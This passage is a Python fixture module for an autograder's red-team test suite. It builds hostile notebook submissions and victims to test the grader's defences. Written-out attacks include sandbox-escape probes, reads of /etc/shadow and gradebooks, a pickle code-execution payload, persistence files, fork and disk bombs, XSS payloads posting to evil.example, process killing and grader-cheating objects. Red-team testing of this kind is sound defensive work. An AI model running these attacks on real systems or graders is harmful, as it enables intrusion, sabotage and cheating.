"""The hostile students of the red-team suite, one per attack, and their victims.

Each builder returns a submission (the notebook a student hands in, as text), or a function that
lays out a submission folder itself (for attacks on the files of the submission). The attack code
sits in an answer cell of the released notebook; exercises it does not solve stay unsolved, so
every point it gets is undeserved. Attacks that report what they tried print one line
``<TAG>: {json}`` that the tests read from the autograded notebook (the instructor's copy).

Names sort attackers (``a_``) before victims (``z_``): jobs start in name order, so the victims'
notebooks run while or after the attacks do.
"""

from __future__ import annotations

import hashlib
import os
import textwrap
from collections.abc import Callable
from pathlib import Path

from recsys_grader import notebooks as nbs
from recsys_kit.paths import REPO_ROOT

from . import harness as _c

M0, M2, M5 = "00_orientation", "02_similarity_ranking", "06_evaluation"
EX1, EX2 = "00_count_by_department", "00_price_summary"
TOPK = "02_topk"
#: A string every attack prints or writes: the tests look for it where it must never appear.
MARK = "SEC-MARK-7f3a"


def _answers(assignment: str, solved: bool) -> dict[str, str]:
    """Answer cells' code: the solution (``solved``) or the release's unsolved stub."""
    source = nbs.read_notebook(REPO_ROOT / "solutions" / assignment / f"{assignment}.ipynb")
    ref = nbs.reference(source)
    cells = source.cells if solved else ref.released.cells
    found = {}
    for cell in cells:
        meta = cell.get("metadata", {}).get("nbgrader", {})
        if meta.get("solution") and cell.cell_type == "code":
            found[meta["grade_id"]] = _c.make_samples._solution(cell.source)
    return found


def stub(grade_id: str, assignment: str = M0) -> str:
    return _answers(assignment, solved=False)[grade_id]


def right(grade_id: str, assignment: str = M0) -> str:
    return _answers(assignment, solved=True)[grade_id]


def attack(code: str, grade_id: str = EX1, assignment: str = M0, solved=()) -> str:
    """The release with ``code`` run in the answer cell ``grade_id`` (before its unsolved stub)
    and the answer cells in ``solved`` solved."""
    answers = {g: right(g, assignment) for g in solved}
    base = answers.get(grade_id, stub(grade_id, assignment))
    answers[grade_id] = textwrap.dedent(code).strip("\n") + "\n\n\n" + base
    return _c.submission(assignment, answers)


def secret_hashes(assignment: str) -> list[str]:
    """sha256 of each distinctive hidden-test line (a payload may hold these, not the lines)."""
    source = nbs.read_notebook(REPO_ROOT / "solutions" / assignment / f"{assignment}.ipynb")
    lines = nbs.secret_lines(nbs.hidden_test_blocks(source))
    return [hashlib.sha256(line.strip().encode()).hexdigest() for line in lines]


# --- issue 11: a verdict decided in the student's kernel -------------------------------------

CUSTOM_EXC = """
get_ipython().set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
"""

SHOWTRACEBACK = """
_ip = get_ipython()
_ip.showtraceback = lambda *a, **k: None
_ip._showtraceback = lambda *a, **k: None
_ip.showsyntaxerror = lambda *a, **k: None
"""

OUTPUT_HOOKS = """
from IPython.display import clear_output


def _forget(result=None):
    clear_output()
    if result is not None:
        result.error_in_exec = None
        result.error_before_exec = None


get_ipython().events.register("post_run_cell", _forget)
get_ipython().events.register("post_execute", clear_output)
"""

INPUT_TRANSFORMER = """
def _wrap(lines):
    body = "".join("    " + line for line in "".join(lines).splitlines(True))
    return ["try:\\n", "    pass\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]


get_ipython().input_transformers_post.append(_wrap)
"""

AST_TRANSFORMER = """
import ast


class _Swallow(ast.NodeTransformer):
    def visit_Module(self, node):
        catch = ast.ExceptHandler(type=ast.Name("BaseException", ast.Load()), name=None,
                                  body=[ast.Pass()])
        node.body = [ast.Try(body=node.body or [ast.Pass()], handlers=[catch], orelse=[],
                             finalbody=[])]
        return ast.fix_missing_locations(node)


get_ipython().ast_transformers.append(_Swallow())
"""

LYING = """
class _Yes:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __bool__(self): return True
    def __len__(self): return 1
    def __hash__(self): return 0
    def __getitem__(self, key): return self
    def __iter__(self): return iter(())
    def __array_function__(self, func, types, args, kwargs): return True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs): return True
    def values(self): return ()
    def items(self): return ()
    def keys(self): return ()


class _YesDict(dict):
    __eq__, __ne__, __bool__ = _Yes.__eq__, _Yes.__ne__, _Yes.__bool__
    __hash__ = _Yes.__hash__
    def __getitem__(self, key): return _YesFloat(0)


class _YesInt(int):
    __eq__, __ne__, __hash__ = _Yes.__eq__, _Yes.__ne__, _Yes.__hash__


class _YesFloat(float):
    __eq__, __ne__, __hash__ = _Yes.__eq__, _Yes.__ne__, _Yes.__hash__
    __lt__ = __le__ = __gt__ = __ge__ = _Yes.__eq__


def count_by_department(catalog):
    return _Yes()


def price_summary(catalog, department=None):
    return _YesDict(count=_YesInt(0), min=_YesFloat(0), max=_YesFloat(0), mean=_YesFloat(0),
                    median=_YesFloat(0))
"""

PATCHED_HELPERS = """
import math
import operator

import numpy as np
import pandas as pd

np.allclose = np.array_equal = np.isclose = lambda *a, **k: True
np.testing.assert_allclose = np.testing.assert_array_equal = lambda *a, **k: None
pd.testing.assert_frame_equal = pd.testing.assert_series_equal = lambda *a, **k: None
math.isclose = lambda *a, **k: True
operator.eq = lambda a, b: True
"""


def walk_filesystem() -> str:
    """Reads every file it can, looking for any hidden-test line (by hash) and, as a control,
    a line of the grader's own source that the sandbox does show; prints everything it finds."""
    control = 'BEGIN_HIDDEN = "### BEGIN HIDDEN TESTS"'
    return attack(
        f"""
        import hashlib, json, os

        _SECRET = set({secret_hashes(M0)!r})
        _CONTROL = {hashlib.sha256(control.encode()).hexdigest()!r}
        _SKIP = (".so", ".pyc", ".npy", ".onnx", ".gguf", ".safetensors", ".bin", ".pt", ".png",
                 ".jpg", ".parquet", ".zip", ".gz", ".whl", ".a", ".ttf", ".otf")
        _found, _control, _files = set(), set(), 0


        def _scan(path, data):
            for line in data.decode("utf-8", "replace").splitlines():
                digest = hashlib.sha256(line.strip().encode()).hexdigest()
                if digest in _SECRET:
                    _found.add(path)
                if digest == _CONTROL:
                    _control.add(path)


        for _dir, _subdirs, _names in os.walk("/", onerror=lambda e: None):
            # the host's system and the installed packages are read-only copies of what the
            # instructor installed (no hidden test there): skipped to stay within the cell's time
            if _dir.startswith(("/proc", "/sys", "/dev", "/usr")) or _dir.endswith(
                ("site-packages", "lib/python3.11", "lib/python3.12", "lib/python3.13")
            ):
                _subdirs[:] = []
                continue
            for _name in _names:
                _path = os.path.join(_dir, _name)
                try:
                    if _name.endswith(_SKIP) or os.path.getsize(_path) > 400_000:
                        continue
                    with open(_path, "rb") as _fh:
                        _data = _fh.read()
                except OSError:
                    continue
                _files += 1
                if b"catalog" in _data or b"BEGIN_HIDDEN" in _data:
                    _scan(_path, _data)
        for _pid in os.listdir("/proc"):
            for _what in ("cmdline", "environ", "cwd"):  # (root: the tree walked above)
                try:
                    _p = f"/proc/{{_pid}}/{{_what}}"
                    if _what == "cwd":
                        for _d, _s, _n in os.walk(_p):
                            for _x in _n:
                                with open(os.path.join(_d, _x), "rb") as _fh:
                                    _scan(os.path.join(_d, _x), _fh.read(400_000))
                    else:
                        with open(_p, "rb") as _fh:
                            _scan(_p, _fh.read().replace(b"\\0", b"\\n"))
                except OSError:
                    pass
        print("\\nWALK: " + json.dumps({{"files": _files, "control": sorted(_control)[:3],
                                      "found": sorted(_found)}}))
        """
    )


# --- issue 12: the sandbox ------------------------------------------------------------------

PROBE = """
import ctypes, json, os, signal, subprocess

_libc = ctypes.CDLL(None, use_errno=True)
_report = {}


def _try(name, action):
    try:
        result = action()
    except BaseException as exc:
        _report[name] = f"denied ({type(exc).__name__}: {exc})"[:160]
    else:
        _report[name] = f"ALLOWED {result!r}"[:160]


def _c(ret):
    if ret != 0:
        err = ctypes.get_errno()
        raise OSError(err, os.strerror(err))
    return ret


def _run(*argv):
    done = subprocess.run(list(argv), capture_output=True, timeout=20)
    if done.returncode != 0:
        raise OSError(done.returncode, done.stderr.decode()[-120:])
    return done.stdout.decode()[-120:]


def _read(path):
    with open(path, "rb") as fh:
        return fh.read(200)


def _pid_of(word):
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            try:
                if word in _read(f"/proc/{pid}/cmdline").decode(errors="replace"):
                    return int(pid)
            except OSError:
                pass
    return -1
"""


def escape() -> str:
    """Every way out of the sandbox the issue names, each reported as allowed or denied."""
    return attack(
        PROBE
        + """
_ex = _pid_of("recsys_grader.executor")
_try("umount /tmp", lambda: _c(_libc.umount2(b"/tmp", 2)))
_try("umount /usr", lambda: _c(_libc.umount2(b"/usr", 2)))
os.makedirs("/tmp/home/m", exist_ok=True)
_try("mount tmpfs", lambda: _c(_libc.mount(b"none", b"/tmp/home/m", b"tmpfs", 0, None)))
_try("unshare -U (user namespace)", lambda: _run("unshare", "-Ur", "id"))
_try("unshare -Urm + tmpfs", lambda: _run("unshare", "-Urm", "sh", "-c",
                                          "mount -t tmpfs none /tmp/home/m && echo mounted"))
_try("unshare -m", lambda: _run("unshare", "-m", "true"))
_try("nsenter pid 1 net", lambda: _run("nsenter", "-t", "1", "-n", "true"))
_try("setns /proc/1/ns/mnt", lambda: _c(_libc.setns(os.open("/proc/1/ns/mnt", os.O_RDONLY), 0)))
_try("read /proc/1/environ", lambda: _read("/proc/1/environ"))
_try("list /proc/1/root", lambda: os.listdir("/proc/1/root"))
_try("read /proc/1/root/etc/hostname", lambda: _read("/proc/1/root/etc/hostname"))
_try("executor environ", lambda: _read(f"/proc/{_ex}/environ"))
_try("executor mem", lambda: _read(f"/proc/{_ex}/mem"))
_try("executor fd/1 write", lambda: os.write(os.open(f"/proc/{_ex}/fd/1", os.O_WRONLY), b"x"))
_try("executor fd/0 read", lambda: os.read(os.open(f"/proc/{_ex}/fd/0", os.O_RDONLY), 1))
_try("ptrace executor", lambda: _c(_libc.ptrace(16, _ex, 0, 0)))
_try("ptrace pid 1", lambda: _c(_libc.ptrace(16, 1, 0, 0)))
_try("setuid 0", lambda: os.setuid(0))
_try("chroot", lambda: os.chroot("/tmp"))
_try("sysrq", lambda: open("/proc/sysrq-trigger", "w").write("h"))
_try("/sys", lambda: os.listdir("/sys/fs/cgroup"))
_try("write /usr", lambda: open("/usr/sec-mark", "w").write("x"))
_try("mknod", lambda: os.mknod("/tmp/home/sda", 0o600 | 0o060000, os.makedev(8, 0)))
_try("kill pid 1", lambda: os.kill(1, signal.SIGKILL))
_caps = [line for line in _read("/proc/self/status").decode().split("\\n")
         if line.startswith("CapEff") and not line.endswith("0000000000000000")]
_try("capabilities", lambda: _caps or _c(1))
print("ESCAPE: " + json.dumps(_report))
"""
    )


def where_am_i() -> str:
    """Describes the process its code runs in: uid, capabilities, no_new_privs, the processes
    and network interfaces it sees, its host name, environment and working folder."""
    return attack(
        PROBE
        + """
import socket

_status = {}
with open("/proc/self/status") as _fh:
    for _line in _fh:
        _k, _, _v = _line.partition(":")
        _status[_k] = _v.strip()
print("WHERE: " + json.dumps({
    "uid": os.getuid(),
    "euid": os.geteuid(),
    "cap_eff": _status.get("CapEff"),
    "cap_bnd": _status.get("CapBnd"),
    "no_new_privs": _status.get("NoNewPrivs"),
    "pids": sorted(int(p) for p in os.listdir("/proc") if p.isdigit()),
    "pid1": _read("/proc/1/cmdline").decode(errors="replace"),
    "interfaces": [name for _, name in socket.if_nameindex()],
    "hostname": socket.gethostname(),
    "env": sorted(os.environ),
    "cwd": os.getcwd(),
    "root": sorted(os.listdir("/")),
}))
"""
    )


def read_grader_files(root: Path) -> str:
    """Reads the gradebook, solutions, the course root and classmates' submissions by the
    host paths it would guess from our source (the course root's layout)."""
    targets = {
        "gradebook": root / "gradebook.db",
        "solutions": root.parent / "solutions" / M0 / f"{M0}.ipynb",
        "roster": root / "roster.csv",
        "config": root / "nbgrader_config.py",
        "victim": root / "submitted" / "z_victim_right" / M0 / f"{M0}.ipynb",
        "repo solutions": REPO_ROOT / "solutions" / M0 / f"{M0}.ipynb",
        "repo gradebook": REPO_ROOT / "grading" / "gradebook.db",
        "submitted": root / "submitted",
        "host /etc/shadow": Path("/etc/shadow"),
        "host shell history": Path("/root/.bash_history"),
    }
    lines = [
        f"_try({k!r}, lambda: os.listdir({str(v)!r}) if os.path.isdir({str(v)!r}) "
        f"else _read({str(v)!r}))"
        for k, v in targets.items()
    ]
    return attack(PROBE + "\n".join(lines) + '\nprint("GRADER: " + json.dumps(_report))\n')


def poison_judge_cache(root: Path) -> str:
    """Goes for the judge's kept reference namespace (``<root>/.judge-cache/``, loaded with
    pickle by the next judge of the assignment): lists and reads it, and writes a pickle that
    would run code on load, under the names the next judge would look for."""
    cache = root / ".judge-cache"
    evil = (
        "__import__('pickle').dumps(type('E', (), {'__reduce__': lambda s: "
        f"(__import__('os').system, ('touch /tmp/{MARK}-judge-cache',))}})())"
    )
    return attack(
        PROBE
        + f"""
_cache = {str(cache)!r}
_try("list", lambda: os.listdir(_cache))
_try("read", lambda: [_read(os.path.join(_cache, n)) for n in os.listdir(_cache)])
_try("make folder", lambda: os.makedirs(_cache))
_try("plant", lambda: open(os.path.join(_cache, "{M0}-" + "0" * 24 + ".pkl"), "wb").write({evil}))
_try("replace", lambda: [open(os.path.join(_cache, n), "wb").write({evil})
                         for n in os.listdir(_cache)])
print("CACHE: " + json.dumps(_report))
"""
    )


def plant_for_classmates(root: Path) -> str:
    """Writes IPython startup files, sitecustomize.py and usercustomize.py into every folder it
    can write, and symlinks from the sandbox to host files the grader might follow."""
    startup = "get_ipython().run_cell = lambda *a, **k: None  # " + MARK
    return attack(
        PROBE
        + f"""
_written = []
_planted = {{
    "sitecustomize.py": "import os; os.environ['{MARK}'] = '1'",
    "usercustomize.py": "import os; os.environ['{MARK}'] = '1'",
    "00-{MARK}.py": {startup!r},
}}
for _dir, _subdirs, _names in os.walk("/", onerror=lambda e: None):
    if _dir.startswith(("/proc", "/sys", "/dev")):
        _subdirs[:] = []
        continue
    if not os.access(_dir, os.W_OK):
        continue
    for _name, _text in _planted.items():
        try:
            with open(os.path.join(_dir, _name), "w") as _fh:
                _fh.write(_text)
            _written.append(_dir)
        except OSError:
            pass
for _profile in ("/tmp/ipython", "/tmp/home/.ipython", "{root}/.ipython"):
    try:
        os.makedirs(_profile + "/profile_default/startup", exist_ok=True)
        with open(_profile + "/profile_default/startup/00-{MARK}.py", "w") as _fh:
            _fh.write({startup!r})
        _written.append(_profile)
    except OSError:
        pass
for _target in ("{root}/roster.csv", "{root}/submitted", "{root}/autograded", "/etc/passwd"):
    for _where in ("/tmp", "/tmp/home", "/tmp/home/work"):
        try:
            os.symlink(_target, os.path.join(_where, "link-" + os.path.basename(_target)))
        except OSError:
            pass
print("PLANTED: " + json.dumps(sorted(set(_written))))
"""
    )


def copy_classmate(root: Path) -> str:
    """Looks for a classmate's answers: their submission, their sandbox, shared folders."""
    return attack(
        PROBE
        + f"""
_seen = []
for _place in ("/tmp", "/tmp/home", "/tmp/home/work", "{root}/submitted", "/var/tmp", "/dev/shm"):
    try:
        _seen += [os.path.join(_place, n) for n in os.listdir(_place)]
    except OSError:
        pass
_others = [p for p in os.listdir("/proc") if p.isdigit()]
print("CLASSMATES: " + json.dumps({{"seen": _seen, "pids": _others}}))
"""
    )


def persist() -> str:
    """Writes into the repository, the virtual environment, the kit, HOME and /tmp."""
    import sys

    places = [
        REPO_ROOT / "sitecustomize.py",
        REPO_ROOT / "recsys_kit" / "sitecustomize.py",
        REPO_ROOT / "recsys_kit" / "__init__.py",
        REPO_ROOT / "recsys_grader" / "judge.py",
        Path(sys.prefix) / "lib" / "sitecustomize.py",
        Path(os.__file__).parent / "sitecustomize.py",
        REPO_ROOT / ".cache" / "sec-mark",
        Path("/root/.ipython/profile_default/startup/00-sec.py"),
        Path("/tmp/home/.ipython/profile_default/startup/00-sec.py"),
        Path("/tmp/sec-mark"),
        Path("/tmp/home/sec-mark"),
    ]
    lines = [
        f"_try({str(p)!r}, lambda: (os.makedirs({str(p.parent)!r}, exist_ok=True), "
        f"open({str(p)!r}, 'a').write('# {MARK}\\n')))"
        for p in places
    ]
    return attack(PROBE + "\n".join(lines) + '\nprint("PERSIST: " + json.dumps(_report))\n')


def persist_probe() -> str:
    """The next batch: does anything of the earlier ones remain where this notebook runs?"""
    return attack(
        f"""
        import json, os

        _left = []
        for _dir, _subdirs, _names in os.walk("/", onerror=lambda e: None):
            if _dir.startswith(("/proc", "/sys", "/dev")):
                _subdirs[:] = []
                continue
            _left += [os.path.join(_dir, n) for n in _names if "{MARK}" in n or n == "sec-mark"]
        _env = [k for k in os.environ if "{MARK}" in k]
        print("LEFT: " + json.dumps({{"files": _left, "env": _env}}))
        """,
        solved=(EX1, EX2),
    )


def _signal_executor(sig: str) -> str:
    return attack(
        PROBE
        + f"""
import sys
sys.stderr.write("failed_to_run: the grader crashed {MARK}\\n")
os.write(2, b"Traceback (most recent call last):\\n  grader error: {MARK}\\n")
print("status: failed_to_run {MARK}")
os.kill(_pid_of("recsys_grader.executor"), signal.{sig})
""",
        solved=(EX2,),
    )


def sigint_executor() -> str:
    return _signal_executor("SIGINT")


def sigkill_executor() -> str:
    return _signal_executor("SIGKILL")


def kill_sandbox() -> str:
    """Kills every process it may signal (its whole sandbox) after writing fake status text."""
    return attack(
        f"""
        import os, signal, sys

        sys.stderr.write("grader error: sandbox failed {MARK}\\n")
        sys.stderr.flush()
        os.kill(-1, signal.SIGKILL)
        """,
        solved=(EX2,),
    )


def signal_others() -> str:
    """Signals every pid number there is: only its own sandbox's processes can be reached."""
    return attack(
        """
        import json, os, signal

        _mine = {int(p) for p in os.listdir("/proc") if p.isdigit()}
        for _p in list(_mine):  # and every thread of its own processes
            try:
                _mine |= {int(t) for t in os.listdir(f"/proc/{_p}/task")}
            except OSError:
                pass
        _hit = []
        for _pid in range(2, 1 << 17):  # signal 0: may it signal that pid at all?
            if _pid in _mine:
                continue
            try:
                os.kill(_pid, 0)
                _hit.append(_pid)
            except OSError:
                pass
        print("SIGNALS: " + json.dumps({"mine": sorted(_mine), "hit": _hit}))
        """,
        solved=(EX1, EX2),
    )


def fork_bomb() -> str:
    """Forks until the process limit stops it (children sleep, so the machine stays usable)."""
    return attack(
        """
        import json, os, time

        _made, _error = 0, ""
        for _ in range(4096):
            try:
                _pid = os.fork()
            except OSError as exc:
                _error = type(exc).__name__
                break
            if _pid == 0:
                time.sleep(60)
                os._exit(0)
            _made += 1
        print("FORKS: " + json.dumps({"made": _made, "error": _error}))
        """,
        solved=(EX2,),
    )


def disk_bomb() -> str:
    """Fills every writable place, then tries a tmpfs of its own in a user namespace."""
    return attack(
        PROBE
        + """
_sizes = {}
for _place in ("/tmp", "/tmp/home", "/dev/shm"):
    _total = 0
    try:
        for _i in range(100_000):
            with open(f"{_place}/fill-{_i}", "wb") as _fh:
                for _ in range(64):
                    _fh.write(b"\\0" * (1 << 20))
                    _total += 1 << 20
    except OSError:
        pass
    _sizes[_place] = _total
_fill = "for i in 1 2 3; do head -c 40000000 /dev/zero > /tmp/home/big$i; done"
_try("tmpfs in a user namespace", lambda: _run("unshare", "-Urm", "sh", "-c",
     "mount -t tmpfs none /tmp/home && " + _fill + " && du -sb /tmp/home"))
for _place in ("/tmp", "/tmp/home"):
    for _name in os.listdir(_place):
        if _name.startswith("fill-"):
            os.unlink(os.path.join(_place, _name))
print("DISK: " + json.dumps({"bytes": _sizes, **_report}))
""",
        solved=(EX2,),
    )


HOSTILE_HTML = f"""
from IPython.display import HTML, Javascript, Markdown, SVG, display

_js = ("document.title='{MARK}';var e=document.createElement('div');e.id='pwned';"
       "document.body.appendChild(e)")
display(HTML("<script>" + _js + "</script><img src=x onerror=\\"" + _js + "\\">"
             "<a href='javascript:" + _js + "'>click</a>"
             "<iframe src='javascript:" + _js + "'></iframe>"
             "<svg onload=\\"" + _js + "\\"></svg><style>body{{display:none}}</style>"
             "<form action='https://evil.example/'><input name=x></form><b>{MARK}-bold</b>"))
display(Javascript(_js))
display(Markdown("**{MARK}-md** <script>" + _js + "</script> [x](javascript:" + _js + ")"))
display(SVG("<svg xmlns='http://www.w3.org/2000/svg'><script>" + _js + "</script></svg>"))
display({{"text/html": "<img src=x onerror=\\"" + _js + "\\">",
          "application/javascript": _js, "text/plain": "{MARK}-plain"}}, raw=True)
display({{"image/png": "\\" onerror=\\"" + _js, "text/plain": "broken"}}, raw=True,
        metadata={{"image/png": {{"width": "1\\" onerror=\\"" + _js}}}})
"""


def hostile_html() -> str:
    """Script in outputs, markdown outputs, SVG, a markdown cell and a raw cell."""
    js = (
        f"document.title='{MARK}';"
        "document.body.appendChild(document.createElement('hr')).id='pwned'"
    )

    def edit(nb) -> None:
        import nbformat

        md = (
            f"## {MARK} heading\n\n<script>{js}</script>\n"
            f'<img src=x onerror="{js}">\n\n[x](javascript:{js})'
        )
        nb.cells.insert(6, nbformat.v4.new_markdown_cell(md))
        nb.cells.insert(7, nbformat.v4.new_raw_cell(f"<script>{js}</script>"))
        for cell in nb.cells:
            if cell.get("metadata", {}).get("nbgrader", {}).get("grade_id") == "00_metric_answer":
                cell.source = f'My answer. <img src=x onerror="{js}"> <script>{js}</script>'

    answers = {EX1: HOSTILE_HTML.strip() + "\n\n\n" + stub(EX1)}
    return _c.submission(M0, answers, edit)


# --- the wire: what the sandbox sends the grader -------------------------------------------------

FORGED_FRAMES = (
    PROBE
    + f"""
import stat
import struct

_frames = [
    struct.pack(">Q", 1 << 62),
    struct.pack(">Q", 40) + b'{{"op": "executed", "notebook": "{MARK}"}}',
    b"\\xff" * 64,
]
_open = []
for _fd in range(3, 1024):  # every pipe or file it holds (its kernel's own sockets aside)
    try:
        if not (stat.S_ISFIFO(os.fstat(_fd).st_mode) or stat.S_ISREG(os.fstat(_fd).st_mode)):
            continue
    except OSError:
        continue
    for _frame in _frames:
        try:
            os.write(_fd, _frame)
            _open.append(_fd)
        except OSError:
            pass
for _path in ("/proc/1/fd/0", "/proc/1/fd/1", "/proc/2/fd/1", "/proc/2/fd/0"):
    _try(_path, lambda: os.write(os.open(_path, os.O_WRONLY), _frames[0]))
for _fd in (0, 1, 2):
    try:
        os.write(_fd, _frames[0] + _frames[1])
    except OSError:
        pass
print("\\nFRAMES: " + json.dumps({{"fds": sorted(set(_open)), **_report}}))
"""
)


def forged_frames() -> str:
    """Huge and malformed protocol frames on every descriptor it holds or can open."""
    return attack(FORGED_FRAMES, solved=(EX2,))


def huge_return() -> str:
    """Returns a gigantic array (and a value that fills its disk while being encoded)."""
    return attack(
        """
        import numpy as np


        def count_by_department(catalog):
            return np.ones((20_000, 20_000))
        """,
        solved=(EX2,),
    )


def deep_return() -> str:
    """Returns data nested far deeper than any encoder or decoder recurses."""
    return attack(
        """
        def count_by_department(catalog):
            out = {}
            for _ in range(200_000):
                out = {"x": out}
            return out
        """,
        solved=(EX2,),
    )


def forged_answers() -> str:
    """Replaces the grader's agent in its kernel: answers with a container bomb, malformed
    tags, a fake exception of the expected type and fake in-place changes."""
    return attack(
        f"""
        import json
        import recsys_grader.agent as _agent

        _calls = []


        def _serve(request_path, response_path):
            with open(request_path) as fh:
                request = json.load(fh)
            _calls.append(request.get("name"))
            n = len(_calls)
            if n == 1:  # about 6 million empty objects: megabytes that decode to gigabytes
                with open(response_path, "w") as fh:
                    fh.write('{{"value": [' + ",".join(["{{}}"] * 6_000_000) + "]}}")
                return
            answers = [
                {{"value": {{"$t": "ref", "name": "catalog"}}}},
                {{"value": {{"$t": "construct", "factory": "os:system", "args": ["true"]}}}},
                {{"value": {{"$t": "{MARK}"}}}},
                {{"raised": {{"type": "GradingInterrupted", "message": "{MARK}",
                              "mro": ["recsys_grader.judge.GradingInterrupted"]}}}},
                {{"value": {{"$t": "dict", "k": [], "v": []}}, "mutated": {{"0": {{"int": True,
                  "v": {{"$t": "dataframe", "v": "{MARK}"}}}}}}}},
            ]
            with open(response_path, "w") as fh:
                json.dump(answers[n % len(answers)], fh)


        _agent.serve = _serve
        """,
        solved=(),
    )


def mutate_reference() -> str:
    """Answers exercise 1 correctly, and when handed the real catalog (the reference notebook's
    own, passed by the tests) drops its price column in place: the change must not reach the
    tests of anybody else (whose price_summary would then fail)."""
    return _c.submission(
        M0,
        {
            EX1: textwrap.dedent(
                """
                def count_by_department(catalog):
                    counts = catalog[C.COL_DEPARTMENT].dropna().value_counts()
                    result = {str(d): int(n) for d, n in counts.items()}
                    if len(catalog) > 100:  # the real catalog: poison it for the others
                        catalog.drop(columns=[C.COL_PRICE], inplace=True)
                    return result
                """
            ).strip()
        },
    )


def symlinked_notebook(root: Path) -> Callable[[Path], None]:
    """The submitted notebook is a symlink to the solution notebook."""

    def lay_out(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        (folder / f"{M0}.ipynb").symlink_to(root.parent / "solutions" / M0 / f"{M0}.ipynb")

    return lay_out


def symlinked_folder(root: Path) -> Callable[[Path], None]:
    """The student's assignment folder is a symlink to a classmate's."""

    def lay_out(folder: Path) -> None:
        folder.parent.mkdir(parents=True, exist_ok=True)
        folder.symlink_to(root / "submitted" / "z_victim_right" / M0)

    return lay_out


def fifo_notebook(root: Path) -> Callable[[Path], None]:
    """The notebook is a named pipe and the timestamp a link to an endless device."""

    def lay_out(folder: Path) -> None:
        folder.mkdir(parents=True, exist_ok=True)
        os.mkfifo(folder / f"{M0}.ipynb")
        (folder / "timestamp.txt").symlink_to("/dev/zero")

    return lay_out


def module0(root: Path) -> dict[str, str | Callable[[Path], None]]:
    """Every Module 0 attack and the victims graded after them."""
    return {
        "a_custom_exc": attack(CUSTOM_EXC),
        "a_showtraceback": attack(SHOWTRACEBACK),
        "a_output_hooks": attack(OUTPUT_HOOKS),
        "a_input_transformer": attack(INPUT_TRANSFORMER),
        "a_ast_transformer": attack(AST_TRANSFORMER),
        "a_lying_objects": _c.submission(M0, {EX1: LYING.strip()}),
        "a_patched_helpers": attack(PATCHED_HELPERS),
        "a_walk_filesystem": walk_filesystem(),
        "a_escape": escape(),
        "a_where_am_i": where_am_i(),
        "a_read_grader_files": read_grader_files(root),
        "a_plant_for_classmates": plant_for_classmates(root),
        "a_copy_classmate": copy_classmate(root),
        "a_persist": persist(),
        "a_sigint_executor": sigint_executor(),
        "a_sigkill_executor": sigkill_executor(),
        "a_kill_sandbox": kill_sandbox(),
        "a_signal_others": signal_others(),
        "a_fork_bomb": fork_bomb(),
        "a_disk_bomb": disk_bomb(),
        "a_hostile_html": hostile_html(),
        "a_forged_frames": forged_frames(),
        "a_huge_return": huge_return(),
        "a_deep_return": deep_return(),
        "a_forged_answers": forged_answers(),
        "a_mutate_reference": mutate_reference(),
        "a_symlinked_notebook": symlinked_notebook(root),
        "a_symlinked_folder": symlinked_folder(root),
        "a_fifo_notebook": fifo_notebook(root),
        "z_victim_release": _c.submission(M0, {}),
        "z_victim_right": _c.submission(M0, {g: right(g) for g in (EX1, EX2)}),
        "z_victim_right_2": _c.submission(M0, {g: right(g) for g in (EX1, EX2)}),
    }


def module0_next() -> dict[str, str]:
    """The batch after: nothing of the first batch may remain."""
    return {"b_persist_probe": persist_probe(), "b_victim_release": _c.submission(M0, {})}


# --- Module 2: the "don't call the kit" check -------------------------------------------------

#: topk_indices done by the kit: top-k of ``scores @ I`` is top-k of ``scores`` (exact for the
#: tests' integer scores, ties by lower index as the exercise asks).
KIT_TOPK = """
def topk_indices(scores, k):
    scores = np.asarray(scores, dtype=np.float32)
    eye = np.eye(scores.shape[1], dtype=np.float32)
    return np.asarray({call}(scores, eye, k=k, metric="dot", device="cpu")[1], dtype=np.int64)
"""


def _trap_off(testing: str) -> str:
    """Code that switches off the sandbox's own delegation trap (the module ``testing``)."""
    return (
        "import contextlib\n"
        f"{testing}.references_disabled = lambda forbidden: contextlib.nullcontext()\n"
    )


#: Ways to reach the kit's top-k that a reader of the grader's source might try.
EVASIONS = {
    "m2_plain": ("", KIT_TOPK.format(call="ranking.topk")),
    "m2_default_arg": (
        "",
        KIT_TOPK.format(call="_topk").replace("(scores, k):", "(scores, k, _topk=ranking.topk):"),
    ),
    "m2_sibling": ("", KIT_TOPK.format(call="ranking.topk_with_stats")),
    "m2_getsource_exec": (
        "import inspect\n_kit = {}\nexec(inspect.getsource(ranking), _kit)\n",
        KIT_TOPK.format(call='_kit["topk"]'),
    ),
    "m2_patch_testing": (
        "import recsys_grader.testing as _t\n" + _trap_off("_t"),
        KIT_TOPK.format(call="ranking.topk"),
    ),
    # the old student-side detector (recsys_kit.testing, gone from the kit) and the grader's
    # testing helpers, replaced by ones that call straight through
    "m2_patch_kit_testing": (
        "import contextlib\nimport importlib.util\n\n"
        "import recsys_grader.testing as _gt\n\n"
        "_through = lambda fn, forbidden, *a, **k: fn(*a, **k)\n"
        'if importlib.util.find_spec("recsys_kit.testing") is not None:\n'
        "    import recsys_kit.testing as _kt\n\n"
        "    _kt.assert_does_not_delegate = _through\n"
        "_gt.assert_does_not_delegate = _through\n"
        "_gt.delegation_problems = lambda *a, **k: []\n" + _trap_off("_gt"),
        KIT_TOPK.format(call="ranking.topk"),
    ),
    # names resolved from strings, and the sandbox's own trap switched off the same way
    "m2_pydoc": (
        'import pydoc\n_topk = pydoc.locate("recsys_kit.ranking.topk")\n'
        + _trap_off('pydoc.locate("recsys_grader.testing")'),
        KIT_TOPK.format(call="_topk"),
    ),
    "m2_type_hints": (
        "import typing\n\n\n"
        'def _hints(a: "ranking.topk", b: "__import__(\'recsys_grader.testing\').testing"):\n'
        "    pass\n\n\n"
        "_topk, _testing = typing.get_type_hints(_hints).values()\n" + _trap_off("_testing"),
        KIT_TOPK.format(call="_topk"),
    ),
    "m2_frames": (
        "import sys\n\ntry:\n    raise ValueError\nexcept ValueError:\n"
        "    _g = sys.exc_info()[2].tb_frame.f_globals\n"
        '_topk = _g["ranking"].topk\n',
        KIT_TOPK.format(call="_topk"),
    ),
}


def _light(nb) -> None:
    """Drop the release's ungraded code cells (encoders, timings, reranker): legal for a
    student, and the judge never reads them; keeps the batch fast."""
    nb.cells = [
        c
        for c in nb.cells
